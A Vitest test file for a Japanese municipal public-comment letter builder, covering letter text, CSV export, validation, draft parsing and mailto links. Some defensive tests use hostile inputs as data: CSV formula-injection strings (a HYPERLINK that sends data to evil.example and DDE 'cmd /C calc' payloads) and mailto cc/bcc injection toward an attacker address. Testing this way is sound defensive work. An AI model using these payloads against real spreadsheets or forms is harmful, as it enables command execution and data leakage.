import { describe, expect, it } from 'vitest';
import {
  checkLetter,
  letterCsv,
  letterText,
  mailtoHref,
  moveOpinion,
  parseDraft,
  type LetterDraft,
} from '../../../src/lib/comments/letter.ts';

const title = '北上市情報基本計画2026（案）';
const draft: LetterDraft = {
  name: '北上 太郎',
  address: '岩手県北上市芳町1番1号',
  contact: '0197-00-0000',
  opinions: [
    {
      id: 'a',
      passage: `${title} 第4章(2) 第1段落（原本 p.16〜）`,
      url: '/plans/kitakami-2026/chapters/c4/#goals-p1',
      opinion: '目標の説明を、もっと具体的にしてください。',
    },
    {
      id: 'b',
      passage: `${title} 第7章(2)`,
      url: '/plans/kitakami-2026/chapters/c7/#measures',
      opinion: '「高齢者向け」と書いてほしい, です。\n2行目。',
    },
  ],
};

describe('letterText', () => {
  it('lays the letter out as the city asks: subject, name, address, contact, then each passage and opinion', () => {
    expect(letterText(title, draft, 'https://example.jp')).toBe(`件名：北上市情報基本計画2026（案）に対する意見
氏名：北上 太郎
住所：岩手県北上市芳町1番1号
連絡先：0197-00-0000

【意見1】
該当箇所：北上市情報基本計画2026（案） 第4章(2) 第1段落（原本 p.16〜）
該当箇所のURL：https://example.jp/plans/kitakami-2026/chapters/c4/#goals-p1
意見：
目標の説明を、もっと具体的にしてください。

【意見2】
該当箇所：北上市情報基本計画2026（案） 第7章(2)
該当箇所のURL：https://example.jp/plans/kitakami-2026/chapters/c7/#measures
意見：
「高齢者向け」と書いてほしい, です。
2行目。
`);
  });
});

describe('letterCsv', () => {
  it('writes Excel-readable CSV: BOM, CRLF, quoted commas and line breaks', () => {
    const csv = letterCsv(title, draft, 'https://example.jp');
    expect(csv.startsWith('\uFEFF件名,氏名,住所,連絡先,番号,該当箇所,該当箇所のURL,意見\r\n')).toBe(true);
    expect(csv).toContain(
      ',2,北上市情報基本計画2026（案） 第7章(2),https://example.jp/plans/kitakami-2026/chapters/c7/#measures,"「高齢者向け」と書いてほしい, です。\n2行目。"\r\n',
    );
    expect(csv.split('\r\n')).toHaveLength(4);
  });

  it('never writes a cell that a spreadsheet runs as a formula, whoever typed it', () => {
    const hostile: LetterDraft = {
      name: '=HYPERLINK("https://evil.example/?"&C2,"詳細")',
      address: "@SUM(1+1)*cmd|' /C calc'!A0",
      contact: '+81-197-00-0000',
      opinions: [{ id: 'a', passage: '=1+1', url: '', opinion: "-2+3+cmd|' /C calc'!A0" }],
    };
    const [, row] = letterCsv(title, hostile, 'https://example.jp').split('\r\n');
    expect(row).toBe(
      `${title}に対する意見,"'=HYPERLINK(""https://evil.example/?""&C2,""詳細"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+81-197-00-0000,1,'=1+1,,'-2+3+cmd|' /C calc'!A0`,
    );
  });
});

describe('checkLetter', () => {
  it('accepts a complete letter', () => {
    expect(checkLetter(draft)).toEqual([]);
  });

  it('names every missing field, each opinion by its number', () => {
    const incomplete = { ...draft, name: ' ', contact: '', opinions: [draft.opinions[0]!, { ...draft.opinions[1]!, opinion: '  ' }] };
    expect(checkLetter(incomplete)).toEqual([
      { field: 'name', message: '氏名を入力してください' },
      { field: 'contact', message: '連絡先（電話番号またはメールアドレス）を入力してください' },
      { field: 'opinion-b', message: '意見2の本文を入力してください' },
    ]);
    expect(checkLetter({ ...draft, opinions: [] }).map((p) => p.field)).toEqual(['opinions']);
  });
});

describe('moveOpinion, parseDraft and mailtoHref', () => {
  it('reorders, and ignores moves past either end', () => {
    expect(moveOpinion(draft, 1, -1).opinions.map((o) => o.id)).toEqual(['b', 'a']);
    expect(moveOpinion(draft, 0, -1)).toBe(draft);
    expect(moveOpinion(draft, 1, 1)).toBe(draft);
  });

  it('reads back what it stored and survives anything else in storage', () => {
    expect(parseDraft(JSON.stringify(draft))).toEqual(draft);
    expect(parseDraft('not json')).toEqual({ name: '', address: '', contact: '', opinions: [] });
    expect(parseDraft(JSON.stringify({ name: 3, opinions: [null, { opinion: 'x' }] }))).toEqual({
      name: '',
      address: '',
      contact: '',
      opinions: [{ id: 'opinion-1', passage: '', url: '', opinion: 'x' }],
    });
  });

  it('encodes subject and body for an e-mail program', () => {
    expect(mailtoHref('iken@example.jp', title, 'a b\n')).toBe(
      `mailto:iken@example.jp?subject=${encodeURIComponent(`${title}に対する意見`)}&body=a%20b%0A`,
    );
  });

  it('keeps a body with & and ?cc= inside the body, adding no recipient', () => {
    const href = new URL(mailtoHref('iken@example.jp', title, 'a&cc=attacker@evil.example?bcc=x#y'));
    expect(href.pathname).toBe('iken@example.jp');
    expect([...href.searchParams.keys()]).toEqual(['subject', 'body']);
    expect(href.searchParams.get('body')).toBe('a&cc=attacker@evil.example?bcc=x#y');
    expect(href.hash).toBe('');
  });

  it('refuses an address that would copy the letter to someone else', () => {
    expect(() => mailtoHref('joho@city.example?cc=attacker@evil.example&bcc=x', title, 'a')).toThrow(
      'comment_email is not one e-mail address',
    );
    expect(() => mailtoHref('joho@city.example,attacker@evil.example', title, 'a')).toThrow('comment_email is not one e-mail address');
  });
});
